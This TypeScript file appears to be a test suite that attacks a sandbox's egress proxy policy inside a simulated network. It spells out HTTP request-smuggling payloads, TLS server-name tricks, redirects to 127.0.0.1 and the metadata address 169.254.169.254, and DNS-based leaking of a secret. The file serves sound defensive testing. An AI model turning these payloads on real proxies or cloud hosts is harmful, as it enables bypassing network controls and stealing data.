import { reachedIf, type Attack } from "../attack.ts";
import { clientHello } from "../client-hello.ts";
import {
  allowed,
  both,
  get,
  hiddenSite,
  Internet,
  say,
  site,
  stranger,
  through,
  tunnelled,
  type Message,
} from "../internet.ts";

/** Requests that a server may understand as one for the hidden site, while their target is the allowed one. */
function smuggled(authority: string): readonly Message[] {
  const target = `http://${authority}/`;
  const inner = `GET / HTTP/1.1\r\nHost: ${hiddenSite}\r\nConnection: close\r\n\r\n`;
  const post = (headers: readonly string[], body: string): string =>
    `POST ${target} HTTP/1.1\r\n${["Host: " + authority, ...headers].join("\r\n")}\r\n\r\n${body}`;
  const asks = (...lines: readonly string[]): string => [...lines, "Connection: close", "", ""].join("\r\n");
  return [
    get(target, hiddenSite),
    asks(`GET ${target} HTTP/1.1`, `Host: ${authority}`, `Host: ${hiddenSite}`),
    asks(`GET ${target} HTTP/1.1`, `Host: ${hiddenSite}`, `Host: ${authority}`),
    asks(`GET ${target} HTTP/1.1`, `Host : ${hiddenSite}`),
    asks(`GET ${target} HTTP/1.1`, `Host: ${authority}`, ` Host: ${hiddenSite}`),
    asks(`GET ${target} HTTP/1.1`, `Host: ${authority}`, `X: a\nHost: ${hiddenSite}`),
    asks(`GET ${target} HTTP/1.1`, `Host: ${authority}`, `X: a\rHost: ${hiddenSite}`),
    asks(`GET ${target} HTTP/1.1`, `Host: ${authority},${hiddenSite}`),
    asks("GET / HTTP/1.1", `Host: ${hiddenSite}`),
    asks(`GET ${target}\tHTTP/1.1\r\nHost: ${hiddenSite} HTTP/1.1`, `Host: ${authority}`),
    asks(`GET ${target}%0d%0aHost:%20${hiddenSite} HTTP/1.1`, `Host: ${authority}`),
    asks(`GET http://${authority}@${hiddenSite}/ HTTP/1.1`, `Host: ${authority}`),
    get(target) + inner,
    `GET ${target} HTTP/1.1\r\nHost: ${authority}\r\n\r\n${inner}`,
    post([`Content-Length: ${inner.length + 5}`, "Transfer-Encoding: chunked"], `0\r\n\r\n${inner}`),
    post(["Transfer-Encoding: chunked", "Content-Length: 4"], `0\r\n\r\n${inner}`),
    post(["Transfer-Encoding: xchunked", "Content-Length: 0"], inner),
    post(["Transfer-Encoding : chunked", "Content-Length: 0"], inner),
    post(["Transfer-Encoding: chunked, identity"], `0\r\n\r\n${inner}`),
    post(["Content-Length: 0", `Content-Length: ${inner.length}`], inner),
    post(["Content-Length: +0"], inner),
    post([`Content-Length: ${inner.length}`, "Connection: content-length"], inner),
    post([`Content-Length: ${inner.length}`, "Connection: host, content-length, transfer-encoding"], inner),
    post(
      ["Transfer-Encoding: chunked", "Connection: transfer-encoding"],
      `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
    ),
    post(["Transfer-Encoding: chunked", "Trailer: Host"], `0\r\nHost: ${hiddenSite}\r\n\r\n${inner}`),
    post(["Expect: 100-continue", "Content-Length: 0"], inner),
    post(["Upgrade: websocket", "Connection: Upgrade", "Content-Length: 0"], inner),
    tunnelled(authority, Buffer.from(inner)),
    tunnelled(authority, Buffer.from(`\r\n${inner}`)),
  ];
}

/** What a tool says in TLS to come to the hidden site behind the address of the allowed one. */
const hellos: readonly Buffer[] = [
  clientHello([[hiddenSite]]),
  clientHello([[hiddenSite.toUpperCase(), allowed]]),
  clientHello([[hiddenSite, allowed]]),
  clientHello([[allowed, hiddenSite]]),
  clientHello([[allowed], [hiddenSite]]),
  clientHello([[hiddenSite], [allowed]]),
  clientHello([[`${hiddenSite}.`]]),
  clientHello([[`${allowed}\0${hiddenSite}`]]),
  clientHello([[hiddenSite]], { split: 4 }),
  clientHello([[hiddenSite]], { split: 50 }),
  Buffer.concat([Buffer.of(21, 3, 1, 0, 2, 1, 0), clientHello([[hiddenSite]])]),
];

/** What a proxy does with requests that it may not take at their word, and with many of them. */
export const egressRequests: readonly Attack[] = [
  {
    id: "egress/redirect",
    title: "The allowed site sends a tool on to a name that is not allowed, or to an address",
    defences: ["egress_policy"],
    attempt: async (arena) => {
      const targets = ["stranger.test", "127.0.0.1", "169.254.169.254"];
      const internet: Internet = await Internet.open(arena, {
        "/leave": (_request, response) =>
          void response
            .writeHead(302, targets.map((name, at) => [`location-${at}`, `http://${name}:${internet.port}/`]).flat())
            .end(),
      });
      const { port, flag } = internet;
      const berth = await arena.sandbox({ profile: "egress" });
      await internet.connect(berth, {
        allow: [`${allowed}:${port}`],
        names: { [allowed]: [[site]], "stranger.test": [[stranger]] },
      });
      const sentOn = [
        ...(await say(berth, [get(`http://${allowed}:${port}/leave`)])).matchAll(/^location-\d: (\S+)/gim),
      ];
      if (sentOn.length !== targets.length) throw new Error("the allowed site does not send anybody on");
      const heard = await say(
        berth,
        sentOn.map(([, url = ""]) => get(url)),
      );
      return reachedIf(heard.includes(flag), heard);
    },
  },
  {
    id: "egress/server-name",
    title: "A tunnel to the allowed site is used for another site of its address, by what TLS says",
    defences: ["egress_policy"],
    attempt: async (arena) => {
      const internet = await Internet.open(arena);
      // It takes a name wherever it finds it, as the most careless of servers would.
      const front = await internet.listener(hiddenSite);
      const messages = hellos.map((hello) => tunnelled(`${allowed}:${front}`, hello));
      return through(arena, internet, messages, { allow: [`${allowed}:${front}`] });
    },
  },
  {
    id: "egress/smuggling",
    title:
      "A request to the allowed site carries another one, or another host, to a site of its address that is not allowed",
    defences: ["egress_policy"],
    attempt: async (arena) => {
      const internet = await Internet.open(arena);
      return through(arena, internet, smuggled(`${allowed}:${internet.port}`));
    },
    seconds: 120,
  },
  {
    id: "egress/name-as-message",
    title: "What is asked for under a name that is not allowed comes to that domain's name server",
    defences: ["egress_policy"],
    attempt: async (arena) => {
      const internet = await Internet.open(arena);
      const secret = arena.flag();
      const hosts = [`${secret}.stranger.test`, `${secret}.${allowed}`, `${secret}.${allowed}.`];
      await through(arena, internet, both(hosts, internet.port));
      return reachedIf(
        internet.asked.some((name) => name.includes(secret)),
        internet.asked.join(" "),
      );
    },
  },
  {
    id: "egress/controller",
    title: "A name that may stand for a private address leads to the controller's own port",
    defences: ["egress_policy"],
    attempt: async (arena) => {
      const internet = await Internet.open(arena);
      const controller = await internet.listener("GET");
      const names = {
        "mirror.test": [["127.0.0.1"]],
        "other.test": [["127.0.0.2", "127.0.0.1"]],
        "six.test": [["::1"]],
      };
      const privateHosts = Object.keys(names);
      return through(arena, internet, both(privateHosts, controller), {
        allow: privateHosts.map((name) => `${name}:${controller}`),
        names,
        privateHosts,
        ownPort: controller,
      });
    },
  },
];
